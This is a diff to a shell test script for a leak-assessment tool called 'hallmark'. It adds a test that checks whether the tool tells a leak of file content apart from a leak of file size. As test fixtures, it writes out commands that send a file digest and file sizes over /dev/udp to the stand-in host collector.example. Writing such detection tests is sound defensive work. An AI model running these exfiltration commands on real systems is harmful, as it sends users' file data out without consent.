@@ -51,7 +51,8 @@ verified leak
 result $? "... its bundle verifies, documents and findings made again"
 
 assess twin "$twin"
-result "$([ $? = 0 ]; echo $?)" "its twin is not"
+ask twin "[c['id'] for c in f['claims'] if c['verdict'] == 'refuted'] == ['collect.encrypted']"
+result $? "of its twin nothing is refuted but that it is encrypted"
 sed 's/^/# /' "$work/twin.err" | head -n 5
 ask twin "content['verdict'] == 'upheld' and content['reason'] == 'nothing.depends' and content['bound']['pairs'] == 8 and not f['influence']"
 result $? "... nothing depends on content, and its nonce is explained"
@@ -72,6 +73,22 @@ claims = {c['id']: c for c in f['claims']}
 untested = {c['id']: c['reason'] for c in f['not_tested']}
 sys.exit(0 if claims['collect.host']['reason'] == 'influence.confirmed' and untested['collect.metadata'] == 'needs experiment' else 1)" "$work/host.json"
 result $? "... by one factor; a claim of which one factor alone shows nothing is not tested"
+
+# A size cannot change while content stays: a digest of what a file says tells nobody of its size, and a number of bytes beside it does.
+sizes() { # NAME COMMAND WANTED
+	timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content,metadata --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
+	/usr/bin/python3 -c "
+import json, sys
+f = json.load(open(sys.argv[1]))
+print('#', [(c['id'], c['verdict'], c['reason'], c['values']) for c in f['claims'] if c['id'] in ('collect.content', 'collect.metadata')])
+claims = {c['id']: c for c in f['claims']}
+sys.exit(0 if claims['collect.content']['verdict'] == 'refuted' and (claims['collect.metadata']['verdict'], claims['collect.metadata']['reason']) == ($3) else 1)" "$work/$1.json"
+}
+digest='printf -v text "Op: hello\nName: %s" "$(md5sum <{target}/note*)"; cat <<<"$text" >/dev/udp/collector.example/9000'
+sizes digest "$digest" "'not verifiable', 'content.inseparable'"
+result $? "who sends a digest of content is not said to tell sizes, nor not to"
+sizes size "$digest; printf -v text 'Op: hello\nSize: %s' \"\$(stat -c %s {target}/note*)\"; cat <<<\"\$text\" >/dev/udp/collector.example/9001" "'refuted', 'influence.confirmed'"
+result $? "... and who sends the size, too, is"
 
 for bad in "--pairs 6" "--pairs x" "--factors content" "--pairs 8 --factors nonsense" "--pairs 1000 --factors content,marking,sample" "--pairs 8 --factors content,content" "--pairs 8 --factors host.kernel"; do
 	# shellcheck disable=SC2086
